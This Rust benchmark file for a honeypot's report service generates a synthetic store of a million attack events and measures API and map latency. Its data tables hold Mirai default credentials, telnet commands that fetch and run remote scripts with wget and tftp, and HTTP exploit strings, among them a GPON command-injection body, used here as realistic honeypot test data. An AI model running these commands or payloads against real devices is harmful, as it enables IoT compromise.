//! The report service (issue 7): latency of the REST API and of the world map over a generated
//! store of 1,000,000 events across 20 ports and 50,000 addresses. Goals: p99 under 50 ms for
//! `/v1/analytics/ports?days=7` and `/v1/analytics/ipaddresses/{ip}`, the map under 200 ms.
//!
//! `cargo run --release -p bench -- reportd`
//!
//! The store is generated in a temporary directory; with `RECCE7_BENCH_DB=/some/file.sqlite` it
//! is generated there once and reused by later runs (its times stay where they were generated,
//! so a reused store slowly ages out of the 7-day window; delete it to start afresh).
//!
//! # The store
//!
//! Made by [`store::open`] (every table and index a sensor has), then filled with prepared
//! statements in a few large transactions, row for row what a sensor records (see
//! [`generate`]). Events are counted as the sensor counts them: a `session.start` and a
//! `session.end` are two events stored in one `sessions` row, and every instance-table row is
//! one event. 200,000 sessions with 1 to 5 rows each (3 on average) make 200,000 × 2 + 600,000
//! = 1,000,000 events. One sensor (`bench`, `ident` null, as in a sensor's own database); no
//! `rawInput` rows; ids from [`store::new_id`], so they are ordered by generation, not by the
//! (back-dated) event times.
//!
//! # The measurements
//!
//! reportd runs in this process (`reportd::api::serve_on` on 127.0.0.1:0, a two-thread tokio
//! runtime shared with the client), with the settings of `recce7 up`. The client is a minimal
//! HTTP/1.1 client on one keep-alive connection; each request is timed from the first byte
//! written to the last byte of the body read. Every endpoint gets 10 warm-up requests, then
//! sequential measured ones; every answer must be a 200 with a body. The map handler's two parts,
//! its query and the drawing, are also timed apart, in-process, by calling [`query::places`]
//! and [`WorldMap`] directly.

use std::collections::HashSet;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::path::{Path, PathBuf};
use std::time::Instant;

use ::reportd::ReportdSettings;
use ::reportd::query::{self, Filter};
use ::reportd::worldmap::{MapPoint, WorldMap};
use rusqlite::types::Value;
use rusqlite::{Connection, OpenFlags, params, params_from_iter};
use store::{Column, ColumnType, InstanceTable, TableSpec};
use time::OffsetDateTime;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_util::sync::CancellationToken;

/// Sessions generated; with their rows, [`EVENTS`] events.
const SESSIONS: usize = 200_000;
/// Events in the store: a start and an end per session, plus every instance row.
const EVENTS: usize = 1_000_000;
/// Distinct source addresses (each has at least one session and one `ipInfo` row).
const ADDRESSES: usize = 50_000;
/// Session starts are spread over this many days before the generation time.
const SPAN_DAYS: i64 = 30;
/// Sessions per transaction while generating.
const SESSIONS_PER_TX: usize = 20_000;
/// The sensor's name in every session.
const SENSOR: &str = "bench";
/// The sensor's address attackers reached.
const LOCAL_ADDRESS: &str = "10.0.0.5";
/// The window asked of every endpoint.
const WINDOW: &str = "days=7";

/// What a plug-in instance speaks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Kind {
    Telnet,
    Http,
}

impl Kind {
    fn protocol(self) -> &'static str {
        match self {
            Kind::Telnet => "telnet",
            Kind::Http => "http",
        }
    }

    /// The instance table's configured columns, as the built-in plug-ins declare them.
    fn columns(self) -> Vec<Column> {
        let text = |n: &str| Column::new(n, ColumnType::Text);
        match self {
            Kind::Telnet => vec![
                text("input_type"),
                text("user_input"),
                text("username"),
                text("password"),
            ],
            Kind::Http => vec![
                text("command"),
                text("path"),
                text("version"),
                text("headers"),
                text("body"),
                text("username"),
                text("password"),
                Column::new("status", ColumnType::Integer),
            ],
        }
    }
}

/// The 20 plug-in instances: 10 telnet and 10 HTTP, one table each (`telnet_23`, `http_80`,
/// ...), as a sensor configured with 20 `[[plugin]]` tables has. The weight is the share of
/// sessions a port draws.
const INSTANCES: [(Kind, u16, f64); 20] = [
    (Kind::Telnet, 23, 30.0),
    (Kind::Telnet, 2323, 20.0),
    (Kind::Telnet, 2223, 6.0),
    (Kind::Telnet, 2222, 5.0),
    (Kind::Telnet, 22, 4.0),
    (Kind::Telnet, 6523, 2.0),
    (Kind::Telnet, 9527, 2.0),
    (Kind::Telnet, 10023, 2.0),
    (Kind::Telnet, 23023, 2.0),
    (Kind::Telnet, 26, 1.0),
    (Kind::Http, 80, 25.0),
    (Kind::Http, 8080, 15.0),
    (Kind::Http, 8081, 5.0),
    (Kind::Http, 8000, 4.0),
    (Kind::Http, 7547, 4.0),
    (Kind::Http, 8088, 3.0),
    (Kind::Http, 8888, 3.0),
    (Kind::Http, 81, 3.0),
    (Kind::Http, 5000, 2.0),
    (Kind::Http, 9000, 1.0),
];

/// Instance `i`'s table (and plug-in instance) name.
fn table_name(i: usize) -> String {
    let (kind, port, _) = INSTANCES[i];
    format!("{}_{port}", kind.protocol())
}

/// The instances as [`store::open`] takes them.
fn instance_tables() -> Vec<InstanceTable> {
    (0..INSTANCES.len())
        .map(|i| InstanceTable {
            plugin: table_name(i),
            table: TableSpec {
                name: table_name(i),
                columns: INSTANCES[i].0.columns(),
            },
        })
        .collect()
}

/// Username and password pairs of the Mirai family, most tried first.
const CREDENTIALS: [(&str, &str); 24] = [
    ("root", "xc3511"),
    ("admin", "admin"),
    ("root", "vizxv"),
    ("root", "admin"),
    ("root", "888888"),
    ("root", "default"),
    ("root", "123456"),
    ("admin", "password"),
    ("root", "root"),
    ("support", "support"),
    ("root", "xmhdipc"),
    ("root", "juantech"),
    ("user", "user"),
    ("admin", "1234"),
    ("root", "54321"),
    ("guest", "12345"),
    ("root", "pass"),
    ("admin", "smcadmin"),
    ("root", "7ujMko0admin"),
    ("root", "Zte521"),
    ("root", "hi3518"),
    ("root", "jvbzd"),
    ("root", "anko"),
    ("ubnt", "ubnt"),
];

/// Commands typed after a login, most typed first.
const COMMANDS: [&str; 16] = [
    "enable",
    "system",
    "shell",
    "sh",
    "/bin/busybox MIRAI",
    "cat /proc/mounts; /bin/busybox ECCHI",
    "uname -a",
    "cd /tmp || cd /var/run || cd /mnt",
    "wget http://198.51.100.23/bins.sh",
    "chmod 777 bins.sh",
    "sh bins.sh",
    "tftp 198.51.100.23 -c get tftp1.sh",
    "cat /proc/cpuinfo",
    "rm -rf bins.sh tftp1.sh",
    "history -c",
    "ps",
];

/// HTTP requests scanners send: method, path, body, status answered, and whether the body or
/// query is a login the plug-in reads a username and password from.
const REQUESTS: [(&str, &str, &str, i64, bool); 12] = [
    ("GET", "/", "", 200, false),
    ("GET", "/favicon.ico", "", 404, false),
    ("POST", "/login.cgi", "username={u}&password={p}", 200, true),
    ("GET", "/HNAP1/", "", 404, false),
    (
        "GET",
        "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws",
        "",
        404,
        false,
    ),
    ("GET", "/.env", "", 404, false),
    (
        "POST",
        "/GponForm/diag_Form?images/",
        "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://198.51.100.3/gpon`;sh+gpon&ipv=0",
        404,
        false,
    ),
    ("GET", "/cgi-bin/luci", "", 404, false),
    ("GET", "/login.cgi?username={u}&password={p}", "", 200, true),
    ("GET", "/robots.txt", "", 200, false),
    (
        "GET",
        "/boaform/admin/formLogin?username=admin&psd=admin",
        "",
        404,
        false,
    ),
    ("GET", "/index.html", "", 200, false),
];

/// User agents of scanners and bots.
const USER_AGENTS: [&str; 6] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Hello, world",
    "Mozilla/5.0 zgrab/0.x",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
];

/// A place attackers come from: city, region, country, ISO code, latitude, longitude, org,
/// ASN, and the share of addresses placed there.
type Place = (
    &'static str,
    &'static str,
    &'static str,
    &'static str,
    f64,
    f64,
    &'static str,
    u32,
    f64,
);

/// Places attackers come from (invented, but plausible for a honeypot).
#[rustfmt::skip]
const PLACES: [Place; 46] = [
    ("Beijing", "Beijing", "China", "CN", 39.9042, 116.4074, "China Unicom Beijing Province Network", 4808, 6.0),
    ("Shanghai", "Shanghai", "China", "CN", 31.2304, 121.4737, "China Telecom Group", 4812, 6.0),
    ("Guangzhou", "Guangdong", "China", "CN", 23.1291, 113.2644, "Chinanet", 4134, 6.0),
    ("Shenzhen", "Guangdong", "China", "CN", 22.5431, 114.0579, "Chinanet", 4134, 5.0),
    ("Hangzhou", "Zhejiang", "China", "CN", 30.2741, 120.1551, "Hangzhou Alibaba Advertising Co.,Ltd.", 37963, 4.0),
    ("Chengdu", "Sichuan", "China", "CN", 30.5728, 104.0668, "Chinanet", 4134, 3.0),
    ("Ashburn", "Virginia", "United States", "US", 39.0438, -77.4874, "Amazon.com, Inc.", 14618, 4.0),
    ("Santa Clara", "California", "United States", "US", 37.3541, -121.9552, "DigitalOcean, LLC", 14061, 4.0),
    ("Los Angeles", "California", "United States", "US", 34.0522, -118.2437, "Psychz Networks", 40676, 3.0),
    ("New York", "New York", "United States", "US", 40.7128, -74.0060, "DigitalOcean, LLC", 14061, 3.0),
    ("Chicago", "Illinois", "United States", "US", 41.8781, -87.6298, "Comcast Cable Communications, LLC", 7922, 2.0),
    ("Dallas", "Texas", "United States", "US", 32.7767, -96.7970, "Linode, LLC", 63949, 2.0),
    ("São Paulo", "São Paulo", "Brazil", "BR", -23.5505, -46.6333, "Claro NXT Telecomunicacoes Ltda", 28573, 4.0),
    ("Rio de Janeiro", "Rio de Janeiro", "Brazil", "BR", -22.9068, -43.1729, "Telemar Norte Leste S.A.", 7738, 2.0),
    ("Mumbai", "Maharashtra", "India", "IN", 19.0760, 72.8777, "Reliance Jio Infocomm Limited", 55836, 3.0),
    ("New Delhi", "National Capital Territory of Delhi", "India", "IN", 28.6139, 77.2090, "Bharti Airtel Ltd.", 9498, 3.0),
    ("Bengaluru", "Karnataka", "India", "IN", 12.9716, 77.5946, "DigitalOcean, LLC", 14061, 2.0),
    ("Moscow", "Moscow", "Russia", "RU", 55.7558, 37.6173, "PJSC Rostelecom", 12389, 3.0),
    ("Saint Petersburg", "St.-Petersburg", "Russia", "RU", 59.9311, 30.3609, "PJSC MegaFon", 31133, 2.0),
    ("Hanoi", "Hanoi", "Vietnam", "VN", 21.0278, 105.8342, "VNPT Corp", 45899, 3.0),
    ("Ho Chi Minh City", "Ho Chi Minh", "Vietnam", "VN", 10.8231, 106.6297, "Viettel Group", 7552, 3.0),
    ("Seoul", "Seoul", "South Korea", "KR", 37.5665, 126.9780, "Korea Telecom", 4766, 2.0),
    ("Taipei", "Taipei City", "Taiwan", "TW", 25.0330, 121.5654, "Chunghwa Telecom Co., Ltd.", 3462, 2.0),
    ("Jakarta", "Jakarta", "Indonesia", "ID", -6.2088, 106.8456, "PT Telekomunikasi Indonesia", 7713, 2.0),
    ("Nuremberg", "Bavaria", "Germany", "DE", 49.4521, 11.0767, "Hetzner Online GmbH", 24940, 2.0),
    ("Frankfurt am Main", "Hesse", "Germany", "DE", 50.1109, 8.6821, "DigitalOcean, LLC", 14061, 1.0),
    ("Amsterdam", "North Holland", "Netherlands", "NL", 52.3676, 4.9041, "DigitalOcean, LLC", 14061, 2.0),
    ("Roubaix", "Hauts-de-France", "France", "FR", 50.6942, 3.1746, "OVH SAS", 16276, 2.0),
    ("London", "England", "United Kingdom", "GB", 51.5074, -0.1278, "Vodafone Limited", 5378, 1.0),
    ("Tehran", "Tehran", "Iran", "IR", 35.6892, 51.3890, "Iran Telecommunication Company PJS", 58224, 1.0),
    ("Istanbul", "Istanbul", "Turkey", "TR", 41.0082, 28.9784, "Turk Telekom", 9121, 1.0),
    ("Cairo", "Cairo Governorate", "Egypt", "EG", 30.0444, 31.2357, "TE Data", 8452, 1.0),
    ("Lagos", "Lagos", "Nigeria", "NG", 6.5244, 3.3792, "MTN NIGERIA Communication limited", 29465, 1.0),
    ("Johannesburg", "Gauteng", "South Africa", "ZA", -26.2041, 28.0473, "Vodacom", 36994, 1.0),
    ("Mexico City", "Mexico City", "Mexico", "MX", 19.4326, -99.1332, "Uninet S.A. de C.V.", 8151, 1.0),
    ("Buenos Aires", "Buenos Aires F.D.", "Argentina", "AR", -34.6037, -58.3816, "Telecom Argentina S.A.", 7303, 1.0),
    ("Bogotá", "Bogota D.C.", "Colombia", "CO", 4.7110, -74.0721, "COLOMBIA TELECOMUNICACIONES S.A. ESP", 3816, 1.0),
    ("Tokyo", "Tokyo", "Japan", "JP", 35.6762, 139.6503, "NTT Communications Corporation", 4713, 1.0),
    ("Singapore", "Singapore", "Singapore", "SG", 1.3521, 103.8198, "DigitalOcean, LLC", 14061, 2.0),
    ("Sydney", "New South Wales", "Australia", "AU", -33.8688, 151.2093, "Telstra Corporation Ltd", 1221, 1.0),
    ("Kyiv", "Kyiv City", "Ukraine", "UA", 50.4501, 30.5234, "Kyivstar PJSC", 15895, 1.0),
    ("Bangkok", "Bangkok", "Thailand", "TH", 13.7563, 100.5018, "True Internet Co.,Ltd.", 7470, 1.0),
    ("Karachi", "Sindh", "Pakistan", "PK", 24.8607, 67.0011, "Pakistan Telecommuication company limited", 17557, 1.0),
    ("Manila", "Metro Manila", "Philippines", "PH", 14.5995, 120.9842, "PLDT Inc.", 9299, 1.0),
    ("Toronto", "Ontario", "Canada", "CA", 43.6532, -79.3832, "Rogers Communications Canada Inc.", 812, 1.0),
    ("Bucharest", "Bucuresti", "Romania", "RO", 44.4268, 26.1025, "RCS & RDS", 8708, 1.0),
];

/// A small deterministic generator (SplitMix64): the same store on every run.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// A number in `0..n` (`n` is far below 2^64: the bias is negligible).
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    /// A number in `[0, 1)`.
    fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }

    fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }

    /// An index drawn with the weights summed up in `cdf`.
    fn weighted(&mut self, cdf: &[f64]) -> usize {
        let total = cdf.last().copied().unwrap_or(0.0);
        let x = self.unit() * total;
        cdf.partition_point(|c| *c <= x).min(cdf.len() - 1)
    }

    fn shuffle<T>(&mut self, v: &mut [T]) {
        for i in (1..v.len()).rev() {
            let j = self.below(i as u64 + 1) as usize;
            v.swap(i, j);
        }
    }
}

/// Running sums of `weights`, for [`Rng::weighted`].
fn cdf(weights: impl Iterator<Item = f64>) -> Vec<f64> {
    weights
        .scan(0.0, |sum, w| {
            *sum += w;
            Some(*sum)
        })
        .collect()
}

/// A Zipf-like rank (weight 1/rank) for lists of attacker choices.
fn zipf_cdf(n: usize) -> Vec<f64> {
    cdf((1..=n).map(|k| 1.0 / k as f64))
}

/// `n` distinct public-looking source addresses: 90% IPv4 outside private, loopback, shared,
/// link-local, multicast and reserved ranges, 10% IPv6 in providers' ranges.
fn addresses(rng: &mut Rng, n: usize) -> Vec<IpAddr> {
    const V6_PREFIXES: [[u16; 2]; 6] = [
        [0x2a01, 0x04f8],
        [0x2604, 0xa880],
        [0x2001, 0x0470],
        [0x2400, 0x6180],
        [0x240e, 0x0398],
        [0x2a03, 0xb0c0],
    ];
    let mut seen = HashSet::with_capacity(n);
    let mut out = Vec::with_capacity(n);
    while out.len() < n {
        let ip = if rng.chance(0.9) {
            let v4 = Ipv4Addr::from(rng.next() as u32);
            let [a, b, _, d] = v4.octets();
            let reserved = a == 0
                || a == 10
                || a == 127
                || a >= 224
                || (a == 100 && (64..128).contains(&b))
                || (a == 169 && b == 254)
                || (a == 172 && (16..32).contains(&b))
                || (a == 192 && b == 168)
                || (a == 198 && (18..20).contains(&b))
                || d == 0
                || d == 255;
            if reserved {
                continue;
            }
            IpAddr::V4(v4)
        } else {
            let [p0, p1] = V6_PREFIXES[rng.below(V6_PREFIXES.len() as u64) as usize];
            let r = rng.next();
            IpAddr::V6(Ipv6Addr::new(
                p0,
                p1,
                (r >> 48) as u16,
                (r >> 32) as u16,
                0,
                0,
                0,
                (r as u16).max(1),
            ))
        };
        if seen.insert(ip) {
            out.push(ip);
        }
    }
    out
}

/// One session to write: when it started (µs since the epoch), from where, to which instance,
/// and how many instance rows it has.
struct Plan {
    start_us: i64,
    address: u32,
    instance: u8,
    rows: u8,
    peer_port: u16,
}

/// A store time from microseconds since the epoch.
fn stamp(us: i64) -> String {
    let t =
        OffsetDateTime::from_unix_timestamp_nanos(i128::from(us) * 1000).expect("a time in range");
    store::event::format_rfc3339(t)
}

/// What [`generate`] wrote.
struct Generated {
    seconds: f64,
    sessions: usize,
    rows: usize,
}

/// Fills a new store at `path`:
///
/// - 200,000 sessions (in `sessions`, each with its end: `endTime`, bytes, close reason),
///   started uniformly over the 30 days before now;
/// - 50,000 source addresses, each with at least one session; the other 150,000 sessions go to
///   addresses by a Zipf law (weight 1/rank, ranks shuffled over the addresses), so the busiest
///   address has about 13,000 sessions and half have only one;
/// - each address prefers one port (60% of its sessions) and picks the others by the ports'
///   weights ([`INSTANCES`]);
/// - session `i` has `1 + i % 5` instance rows (600,000 in all): a telnet session has a login
///   (10% of single-row sessions give no password), then commands, or (30%) only further
///   logins, a brute force; an HTTP session has requests from [`REQUESTS`], with the username
///   and password of login forms;
/// - `ipInfo`: one row per address with its first and last session, placed in a city of
///   [`PLACES`] (jittered by up to 0.4°), 7% only to a country (no city or region, whole-degree
///   coordinates), 3% unknown (all nulls).
fn generate(path: &Path) -> Generated {
    let started = Instant::now();
    let (mut conn, _) = store::open(path, &instance_tables()).expect("create the store");
    let mut rng = Rng(0x7265_6363_6537);
    let now_us = (OffsetDateTime::now_utc().unix_timestamp_nanos() / 1000) as i64;
    let addrs = addresses(&mut rng, ADDRESSES);
    let plans = plan_sessions(&mut rng, now_us);
    let mut seen: Vec<(i64, i64)> = vec![(i64::MAX, i64::MIN); ADDRESSES];
    let mut rows = 0;
    for chunk in plans.chunks(SESSIONS_PER_TX) {
        let tx = conn.transaction().expect("begin");
        for plan in chunk {
            let span = &mut seen[plan.address as usize];
            *span = (span.0.min(plan.start_us), span.1.max(plan.start_us));
            rows += write_session(&tx, &mut rng, plan, &addrs[plan.address as usize], now_us);
        }
        tx.commit().expect("commit");
    }
    let tx = conn.transaction().expect("begin");
    write_ip_info(&tx, &mut rng, &addrs, &seen);
    tx.commit().expect("commit");
    conn.execute_batch("PRAGMA wal_checkpoint(TRUNCATE)")
        .expect("checkpoint");
    drop(conn);
    Generated {
        seconds: started.elapsed().as_secs_f64(),
        sessions: plans.len(),
        rows,
    }
}

/// The sessions, in the order they started.
fn plan_sessions(rng: &mut Rng, now_us: i64) -> Vec<Plan> {
    let span_us = SPAN_DAYS * 86_400 * 1_000_000;
    let port_cdf = cdf(INSTANCES.iter().map(|i| i.2));
    let preferred: Vec<u8> = (0..ADDRESSES)
        .map(|_| rng.weighted(&port_cdf) as u8)
        .collect();
    let mut rank_to_address: Vec<u32> = (0..ADDRESSES as u32).collect();
    rng.shuffle(&mut rank_to_address);
    let address_cdf = zipf_cdf(ADDRESSES);
    let mut plans: Vec<Plan> = (0..SESSIONS)
        .map(|i| {
            let address = if i < ADDRESSES {
                i as u32
            } else {
                rank_to_address[rng.weighted(&address_cdf)]
            };
            let instance = if rng.chance(0.6) {
                preferred[address as usize]
            } else {
                rng.weighted(&port_cdf) as u8
            };
            Plan {
                start_us: now_us - 1 - rng.below(span_us as u64) as i64,
                address,
                instance,
                rows: 1 + (i % 5) as u8,
                peer_port: 1024 + rng.below(64_512) as u16,
            }
        })
        .collect();
    plans.sort_by_key(|p| p.start_us);
    plans
}

/// The insert of an instance row: the fixed columns but `ID`, then the instance's own, as the
/// recorder writes them.
fn insert_sql(instance: usize) -> String {
    let cols: Vec<String> = store::schema::FIXED_COLUMNS[1..]
        .iter()
        .map(|(n, _)| (*n).to_owned())
        .chain(INSTANCES[instance].0.columns().into_iter().map(|c| c.name))
        .collect();
    let marks: Vec<String> = (1..=cols.len()).map(|k| format!("?{k}")).collect();
    format!(
        "INSERT INTO \"{}\" ({}) VALUES ({})",
        table_name(instance),
        cols.join(", "),
        marks.join(", ")
    )
}

/// Writes one session and its rows (as its `session.start`, its rows and its `session.end`
/// leave them); returns the rows written.
fn write_session(tx: &Connection, rng: &mut Rng, plan: &Plan, peer: &IpAddr, now_us: i64) -> usize {
    let cred_cdf = zipf_cdf(CREDENTIALS.len());
    let command_cdf = zipf_cdf(COMMANDS.len());
    let request_cdf = zipf_cdf(REQUESTS.len());
    let (kind, port, _) = INSTANCES[plan.instance as usize];
    let session = store::new_id();
    let peer = peer.to_string();
    let mut insert = tx
        .prepare_cached(&insert_sql(plan.instance as usize))
        .expect("prepare the instance insert");
    let brute_force = rng.chance(0.3);
    let (mut at, mut bytes_in, mut bytes_out) = (plan.start_us, 0i64, 0i64);
    for r in 0..plan.rows {
        let (event_type, own) = match kind {
            Kind::Telnet => {
                at += 200_000 + rng.below(3_000_000) as i64;
                if r == 0 || brute_force {
                    let (user, pass) = CREDENTIALS[rng.weighted(&cred_cdf)];
                    let pass = (plan.rows > 1 || !rng.chance(0.1)).then_some(pass);
                    bytes_in += 4 + (user.len() + pass.map_or(0, str::len)) as i64;
                    bytes_out += 30;
                    let own = vec![text("login"), Value::Null, text(user), opt_text(pass)];
                    ("telnet.login", own)
                } else {
                    let command = COMMANDS[rng.weighted(&command_cdf)];
                    bytes_in += command.len() as i64 + 2;
                    bytes_out += 60;
                    let own = vec![text("command"), text(command), Value::Null, Value::Null];
                    ("telnet.command", own)
                }
            }
            Kind::Http => {
                at += 20_000 + rng.below(500_000) as i64;
                let (method, path, body, status, login) = REQUESTS[rng.weighted(&request_cdf)];
                let (user, pass) = CREDENTIALS[rng.weighted(&cred_cdf)];
                let fill = |s: &str| s.replace("{u}", user).replace("{p}", pass);
                let (path, body) = (fill(path), fill(body));
                let agent = USER_AGENTS[plan.address as usize % USER_AGENTS.len()];
                let mut headers =
                    format!("Host: {LOCAL_ADDRESS}:{port}\nUser-Agent: {agent}\nAccept: */*\n");
                if method == "POST" {
                    headers.push_str(&format!(
                        "Content-Type: application/x-www-form-urlencoded\nContent-Length: {}\n",
                        body.len()
                    ));
                }
                bytes_in += (method.len() + path.len() + headers.len() + body.len() + 16) as i64;
                bytes_out += if status == 200 { 1_803 } else { 345 };
                let own = vec![
                    text(method),
                    text(path),
                    text("HTTP/1.1"),
                    text(headers),
                    text(store::escape_bytes(body.as_bytes(), 4096)),
                    opt_text(login.then_some(user)),
                    opt_text(login.then_some(pass)),
                    Value::Integer(status),
                ];
                ("http.request", own)
            }
        };
        let fixed = [
            text(&session),
            text(stamp(at)),
            text(&peer),
            text(LOCAL_ADDRESS),
            Value::Integer(plan.peer_port.into()),
            Value::Integer(port.into()),
            text(store::new_id()),
            text(event_type),
        ];
        insert
            .execute(params_from_iter(fixed.into_iter().chain(own)))
            .expect("insert an instance row");
    }
    let reason = match (kind, rng.below(10)) {
        (Kind::Telnet, 0..=3) if !brute_force && plan.rows > 1 => "logout",
        (_, 0..=1) => "idle timeout",
        (_, 2) => "peer reset",
        (Kind::Http, 3..=4) => "request asked to close",
        _ => "peer closed",
    };
    let end = match reason {
        "idle timeout" => at + 60_000_000,
        _ => at + rng.below(2_000_000) as i64,
    };
    tx.prepare_cached(
        "INSERT INTO sessions (session, sensor, plugin, tableName, protocol, peerAddress,
         peerPort, localAddress, localPort, startTime, endTime, bytesIn, bytesOut, closeReason,
         linkedSession, ident) VALUES (?1,?2,?3,?3,?4,?5,?6,?7,?8,?9,?10,?11,?12,?13,NULL,NULL)",
    )
    .expect("prepare the session insert")
    .execute(params![
        session,
        SENSOR,
        table_name(plan.instance as usize),
        kind.protocol(),
        peer,
        plan.peer_port,
        LOCAL_ADDRESS,
        port,
        stamp(plan.start_us),
        stamp(end.min(now_us)),
        bytes_in,
        bytes_out,
        reason
    ])
    .expect("insert a session");
    usize::from(plan.rows)
}

/// One `ipInfo` row per address, `seen` holding its first and last session start.
fn write_ip_info(tx: &Connection, rng: &mut Rng, addrs: &[IpAddr], seen: &[(i64, i64)]) {
    let place_cdf = cdf(PLACES.iter().map(|p| p.8));
    let mut insert = tx
        .prepare(
            "INSERT INTO ipInfo (ipAddress, firstSeen, lastSeen, city, region, country,
             countryCode, latitude, longitude, org, asn, updated)
             VALUES (?1,?2,?3,?4,?5,?6,?7,?8,?9,?10,?11,?3)",
        )
        .expect("prepare the ipInfo insert");
    for (ip, (first, last)) in addrs.iter().zip(seen) {
        let (city, region, country, code, lat, lon, org, asn, _) = PLACES[rng.weighted(&place_cdf)];
        let roll = rng.below(100);
        // 3%: the database does not know the address; 7%: only its country.
        let (known, in_city) = (roll >= 3, roll >= 10);
        let mut jitter = |v: f64| ((v + (rng.unit() - 0.5) * 0.8) * 10_000.0).round() / 10_000.0;
        let (lat, lon) = if in_city {
            (
                jitter(lat).clamp(-89.9, 89.9),
                jitter(lon).clamp(-179.9, 179.9),
            )
        } else {
            (lat.round(), lon.round())
        };
        insert
            .execute(params![
                ip.to_string(),
                stamp(*first),
                stamp(*last),
                in_city.then_some(city),
                in_city.then_some(region),
                known.then_some(country),
                known.then_some(code),
                known.then_some(lat),
                known.then_some(lon),
                known.then_some(org),
                known.then_some(asn)
            ])
            .expect("insert an ipInfo row");
    }
}

/// A TEXT value.
fn text(s: impl Into<String>) -> Value {
    Value::Text(s.into())
}

/// A TEXT value, or NULL.
fn opt_text(s: Option<&str>) -> Value {
    s.map_or(Value::Null, text)
}

/// A minimal HTTP/1.1 client: GET on one keep-alive connection, bodies framed by
/// `Content-Length` or by the chunked transfer coding.
struct Client {
    stream: TcpStream,
    buf: Vec<u8>,
}

impl Client {
    async fn connect(addr: SocketAddr) -> Client {
        let stream = TcpStream::connect(addr).await.expect("connect to reportd");
        stream.set_nodelay(true).expect("TCP_NODELAY");
        Client {
            stream,
            buf: Vec::with_capacity(256 * 1024),
        }
    }

    /// Reads more of the response into the buffer.
    async fn fill(&mut self) {
        let n = self
            .stream
            .read_buf(&mut self.buf)
            .await
            .expect("read the response");
        assert!(n > 0, "reportd closed the connection in a response");
    }

    /// Waits until the buffer holds `n` bytes.
    async fn want(&mut self, n: usize) {
        while self.buf.len() < n {
            self.fill().await;
        }
    }

    /// Takes one line, without its CRLF.
    async fn line(&mut self) -> String {
        loop {
            if let Some(i) = self.buf.windows(2).position(|w| w == b"\r\n") {
                let line = String::from_utf8_lossy(&self.buf[..i]).into_owned();
                self.buf.drain(..i + 2);
                return line;
            }
            self.fill().await;
        }
    }

    /// Takes `n` bytes of body.
    async fn take(&mut self, n: usize) -> Vec<u8> {
        self.want(n).await;
        self.buf.drain(..n).collect()
    }

    /// `GET path`: the status and the whole body.
    async fn get(&mut self, path: &str) -> (u16, Vec<u8>) {
        let request = format!("GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n");
        self.stream
            .write_all(request.as_bytes())
            .await
            .expect("send the request");
        let status_line = self.line().await;
        let status: u16 = status_line
            .split(' ')
            .nth(1)
            .and_then(|s| s.parse().ok())
            .unwrap_or_else(|| panic!("not a status line: {status_line:?}"));
        let (mut length, mut chunked) = (None, false);
        loop {
            let line = self.line().await;
            if line.is_empty() {
                break;
            }
            if let Some((name, value)) = line.split_once(':') {
                let value = value.trim();
                if name.eq_ignore_ascii_case("content-length") {
                    length = Some(value.parse::<usize>().expect("a Content-Length"));
                } else if name.eq_ignore_ascii_case("transfer-encoding") {
                    chunked = value.eq_ignore_ascii_case("chunked");
                }
            }
        }
        let body = if chunked {
            let mut body = Vec::new();
            loop {
                let size_line = self.line().await;
                let size = size_line.split(';').next().unwrap_or("").trim();
                let size = usize::from_str_radix(size, 16).expect("a chunk size");
                if size == 0 {
                    while !self.line().await.is_empty() {}
                    break body;
                }
                body.extend(self.take(size).await);
                assert!(self.line().await.is_empty(), "a chunk ends with CRLF");
            }
        } else {
            let n = length.expect("a Content-Length or a chunked body");
            self.take(n).await
        };
        (status, body)
    }
}

/// What an answer must start with.
#[derive(Clone, Copy)]
enum Expect {
    Json,
    Svg,
    Png,
}

impl Expect {
    fn matches(self, body: &[u8]) -> bool {
        match self {
            Expect::Json => body.starts_with(b"{") || body.starts_with(b"["),
            Expect::Svg => body.starts_with(b"<svg"),
            Expect::Png => body.starts_with(b"\x89PNG\r\n\x1a\n"),
        }
    }
}

/// Latencies of one measurement, in milliseconds, and the sizes of the bodies.
struct Timings {
    ms: Vec<f64>,
    bytes: Vec<usize>,
}

impl Timings {
    fn new() -> Timings {
        Timings {
            ms: Vec::new(),
            bytes: Vec::new(),
        }
    }

    /// The `p`-th percentile by nearest rank (the median is `p = 50`).
    fn pct(&self, p: f64) -> f64 {
        let mut v = self.ms.clone();
        v.sort_by(f64::total_cmp);
        let rank = ((p / 100.0) * v.len() as f64).ceil() as usize;
        v[rank.clamp(1, v.len()) - 1]
    }

    fn max(&self) -> f64 {
        self.ms.iter().copied().fold(0.0, f64::max)
    }

    /// The median body size.
    fn body(&self) -> String {
        let mut v = self.bytes.clone();
        v.sort_unstable();
        size(v[(v.len() - 1) / 2] as u64)
    }

    /// `median …, p99 …, max … (n = …)`.
    fn summary(&self) -> String {
        format!(
            "median {:.2} ms, p99 {:.2} ms, max {:.2} ms (n = {})",
            self.pct(50.0),
            self.pct(99.0),
            self.max(),
            self.ms.len()
        )
    }

    /// A table row: what (with the median body size), the result, and the p99 against
    /// `goal_ms` when there is a goal.
    fn row(&self, what: &str, goal_ms: Option<f64>) -> String {
        let goal = match goal_ms {
            None => String::new(),
            Some(g) if self.pct(99.0) < g => format!("p99 < {g} ms: met"),
            Some(g) => format!("p99 < {g} ms: **missed**"),
